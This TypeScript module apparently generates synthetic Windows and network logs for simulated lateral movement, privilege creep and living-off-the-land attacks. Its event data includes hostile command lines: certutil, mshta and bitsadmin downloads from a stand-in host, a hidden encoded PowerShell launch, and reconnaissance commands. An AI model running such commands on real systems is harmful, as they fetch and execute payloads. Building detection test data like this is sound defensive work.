import { DAY, HOUR, MINUTE } from '../calendar.ts';
import * as sysmon from '../lines/sysmon.ts';
import * as windows from '../lines/windows.ts';
import * as zeek from '../lines/zeek.ts';
import { idOfAddress, idsOfHost, idsOfPerson, nextWorkDay, type DrawAttack } from './attack.ts';

const cmd = 'C:\\\\Windows\\\\System32\\\\cmd.exe';
const wmi = 'C:\\\\Windows\\\\System32\\\\wbem\\\\WmiPrvSE.exe';
const powershell = 'C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe';

/** From machine to machine, three to six of them, with one account that was never there. */
export const lateralMovement: DrawAttack = (draw) => {
  const { chance, org, strength } = draw;
  const person = draw.victim((each) => each.department.name !== 'IT' && each.habits.atHome < 0.4);
  const day = person && nextWorkDay(draw, person, draw.from, 'office');
  if (person === undefined || day === undefined) return undefined;
  const hops = 3 + Math.round(1.5 * Math.min(2, strength));
  const servers = chance.shuffled(org.servers.filter((each) => !each.isLinux && each.role !== 'file'));
  const others = chance.shuffled(org.people.filter((each) => each !== person));
  const path = Array.from({ length: hops }, (_, n) => {
    const server = servers[n];
    const other = others[n];
    return n % 2 === 1 && server !== undefined ? { host: server.name, ip: server.ip } : { host: other?.workstation ?? '', ip: draw.workDay(other ?? person, day.from)?.ip ?? '10.1.0.9' }; // prettier-ignore
  });
  const from = day.from + chance.between(2, 5) * HOUR;
  const step = (strength < 1 ? 90 : 25) * MINUTE;
  return {
    kind: 'lateral-movement', techniques: ['T1021.002', 'T1047', 'T1550.002'], strength, from, to: from + hops * step + HOUR,
    entities: [...idsOfPerson(person), idOfAddress(day.ip), ...path.flatMap(({ host, ip }) => [...idsOfHost(host), idOfAddress(ip)])],
    about: `${person.login} moves from ${person.workstation} over ${path.map(({ host }) => host).join(', ')}`,
    tell: (slice) => {
      let before = { host: person.workstation, ip: day.ip };
      for (const [n, to] of path.entries()) {
        const time = from + n * step;
        const { host } = to;
        slice.add(time, 'zeek', zeek.conn(time, { from: before.ip, to: to.ip, port: 445, service: 'smb', duration: 20, out: 90_000, in: 20_000 })); // prettier-ignore
        slice.add(time + 100, 'zeek', zeek.conn(time + 100, { from: before.ip, to: to.ip, port: 135, service: 'dce_rpc', duration: 2, out: 3000, in: 2000 })); // prettier-ignore
        if (strength > 0.5) slice.add(time + 150, 'windows-security', windows.failedLogon(time + 150, { host, who: person, type: 3, ip: before.ip, workstation: before.host }), host); // prettier-ignore
        slice.add(time + 200, 'windows-security', windows.logon(time + 200, { host, who: person, type: 3, ip: before.ip, workstation: before.host, package: 'NTLM' }), host); // prettier-ignore
        slice.add(time + 300, 'windows-security', windows.specialLogon(time + 300, host, person), host);
        slice.add(time + 400, 'windows-security', windows.shareOpened(time + 400, host, person, before.ip, 'ADMIN$'), host);
        if (n % 2 === 1) slice.add(time + 900, 'windows-security', windows.processCreated(time + 900, host, person, powershell, wmi, 'powershell.exe -nop -w hidden -enc UwB0AGEAcgB0AA=='), host); // prettier-ignore
        else slice.add(time + 900, 'sysmon', sysmon.started(time + 900, host, sysmon.userOf(person.login), cmd, wmi, 'cmd.exe /c whoami /all'), host); // prettier-ignore
        if (strength > 1) slice.add(time + 1500, 'windows-security', windows.serviceInstalled(time + 1500, host, `svc${chance.hex(6)}`, '%COMSPEC% /c echo'), host); // prettier-ignore
        before = to;
      }
    },
  };
}; // prettier-ignore

/** One group more every few days, and then what the groups open. */
export const privilegeCreep: DrawAttack = (draw) => {
  const { chance, org, strength, from } = draw;
  const person = draw.victim((each) => each.department.name !== 'IT');
  const helper = org.people.find((each) => each.department.name === 'IT');
  if (person === undefined || helper === undefined) return undefined;
  const groups = chance.shuffled(['grp-finance', 'grp-payroll', 'grp-hr', 'grp-legal', 'grp-backup-operators', 'grp-server-admins', 'Domain Admins']).slice(0, 2 + Math.round(2 * strength)); // prettier-ignore
  const every = 2 * DAY;
  const steps = groups.flatMap((group, n) => {
    const day = nextWorkDay(draw, person, from + n * every);
    return day === undefined ? [] : [{ group, day, time: day.from + 3 * HOUR }];
  });
  const last = steps.at(-1);
  if (last === undefined) return undefined;
  const server = chance.pick(org.servers.filter((each) => each.role === 'file'));
  return {
    kind: 'privilege-creep', techniques: ['T1098', 'T1078.002'], strength, from: steps[0]?.time ?? from, to: last.time + 6 * HOUR,
    entities: idsOfPerson(person),
    about: `${person.login} becomes a member of ${groups.join(', ')}`,
    tell: (slice) => {
      for (const { group, day, time } of steps) {
        slice.add(time, 'windows-security', windows.groupMember(time, 4728, helper, person, group), 'dc-1');
        const use = time + HOUR;
        slice.add(use, 'windows-security', windows.specialLogon(use, person.workstation, person), person.workstation);
        slice.add(use + 900, 'windows-security', windows.shareOpened(use + 900, server.name, person, day.ip, group.replace('grp-', '')), server.name); // prettier-ignore
      }
    },
  };
}; // prettier-ignore

const tools: readonly (readonly [image: string, parent: string, line: string])[] = [
  ['C:\\\\Windows\\\\System32\\\\certutil.exe', cmd, 'certutil.exe -urlcache -split -f http://198.18.240.1/a a.dat'],
  ['C:\\\\Windows\\\\System32\\\\mshta.exe', 'C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE', 'mshta.exe http://198.18.240.1/a.hta'],
  ['C:\\\\Windows\\\\System32\\\\rundll32.exe', 'C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\EXCEL.EXE', 'rundll32.exe C:\\\\Users\\\\Public\\\\a.dll,Start'],
  ['C:\\\\Windows\\\\System32\\\\vssadmin.exe', cmd, 'vssadmin.exe list shadows'],
  ['C:\\\\Windows\\\\System32\\\\nltest.exe', cmd, 'nltest.exe /domain_trusts'],
  ['C:\\\\Windows\\\\System32\\\\net.exe', cmd, 'net.exe group \\"Domain Admins\\" /domain'],
  ['C:\\\\Windows\\\\System32\\\\whoami.exe', cmd, 'whoami.exe /all'],
  ['C:\\\\Windows\\\\System32\\\\bitsadmin.exe', powershell, 'bitsadmin.exe /transfer a http://198.18.240.1/b C:\\\\Users\\\\Public\\\\b.exe'],
]; // prettier-ignore

/** Tools that every Windows has and hardly anybody starts: living off the land. */
export const rareTools: DrawAttack = (draw) => {
  const { chance, strength } = draw;
  const person = draw.victim((each) => each.department.name !== 'IT' && each.department.name !== 'Engineering');
  const day = person && nextWorkDay(draw, person, draw.from);
  if (person === undefined || day === undefined) return undefined;
  const from = day.from + chance.between(1, 5) * HOUR;
  const used = chance.shuffled(tools).slice(0, 2 + Math.round(2 * strength));
  return {
    kind: 'rare-tools', techniques: ['T1218', 'T1059.003', 'T1087.002'], strength, from, to: from + HOUR,
    entities: idsOfPerson(person),
    about: `${used.length} tools of administrators on ${person.workstation}`,
    tell: (slice) => {
      for (const [n, [image, parent, line]] of used.entries()) {
        const time = from + n * 4 * MINUTE + chance.int(60_000);
        slice.add(time, 'sysmon', sysmon.started(time, person.workstation, sysmon.userOf(person.login), image, parent, line), person.workstation); // prettier-ignore
      }
    },
  };
}; // prettier-ignore
